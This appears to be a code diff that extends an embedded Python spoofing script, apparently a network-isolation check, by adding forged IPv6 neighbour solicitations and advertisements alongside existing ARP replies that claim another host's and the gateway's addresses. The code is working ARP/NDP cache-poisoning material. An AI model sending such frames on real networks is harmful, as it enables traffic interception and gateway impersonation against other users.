@@ -79,7 +79,7 @@ while True:
 /**
  * Sends frames that claim to be another's, and prints how many bytes came back for it:
  * `python3 -c … device own-mac claimed-mac claimed-address gateway-mac gateway`. A DNS query and a SYN by the claimed
- * addresses, and ARP answers that give its address, and the gateway's, to the sender.
+ * addresses, and ARP answers and IPv6 neighbour messages that give its address, and the gateway's, to the sender.
  */
 export const SPOOF = `
 import select, socket, struct, sys, time
@@ -100,6 +100,17 @@ def packet(source_mac, protocol, payload):
 def arp(target_mac, sender_mac, sender, target, operation):
     body = struct.pack('!HHBBH', 1, 0x0800, 6, 4, operation) + raw(sender_mac) + ip(sender) + raw(target_mac) + ip(target)
     return raw(target_mac) + raw(own_mac) + b'\\x08\\x06' + body
+def link_local(of_mac):
+    m = raw(of_mac)
+    return b'\\xfe\\x80' + b'\\0' * 6 + bytes([m[0] ^ 2]) + m[1:3] + b'\\xff\\xfe' + m[3:]
+def neighbour(target_mac, kind, source, target, option):
+    # RFC 4861: a solicitation (135) with the sender's hardware address, or an advertisement (136) that overrides.
+    destination = link_local(gateway_mac)
+    body = struct.pack('!BBHI', kind, 0, 0, 0x20000000 if kind == 136 else 0) + target + bytes([option, 1]) + raw(own_mac)
+    head = source + destination + struct.pack('!II', len(body), 58)
+    body = body[:2] + struct.pack('!H', checksum(head + body)) + body[4:]
+    packet6 = struct.pack('!IHBB', 6 << 28, len(body), 58, 255) + source + destination + body
+    return raw(target_mac) + raw(own_mac) + b'\\x86\\xdd' + packet6
 query = bytes.fromhex('123401000001000000000000') + b'\\x03api\\x03dev\\x07gstacks\\x00\\x00\\x01\\x00\\x01'
 udp = struct.pack('!HHHH', 5353, 53, 8 + len(query), 0) + query
 pseudo = lambda payload: ip(address) + ip(gateway) + struct.pack('!BBH', 0, 6, len(payload))
@@ -113,6 +124,8 @@ for _ in range(5):
     s.send(arp(gateway_mac, own_mac, address, gateway, 2))
     s.send(arp('ff:ff:ff:ff:ff:ff', own_mac, address, address, 1))
     s.send(arp('ff:ff:ff:ff:ff:ff', own_mac, gateway, gateway, 2))
+    s.send(neighbour(gateway_mac, 135, link_local(mac), link_local(gateway_mac), 1))
+    s.send(neighbour(gateway_mac, 136, link_local(mac), link_local(mac), 2))
     end = time.time() + 0.2
     while time.time() < end:
         if select.select([s], [], [], 0.05)[0]:
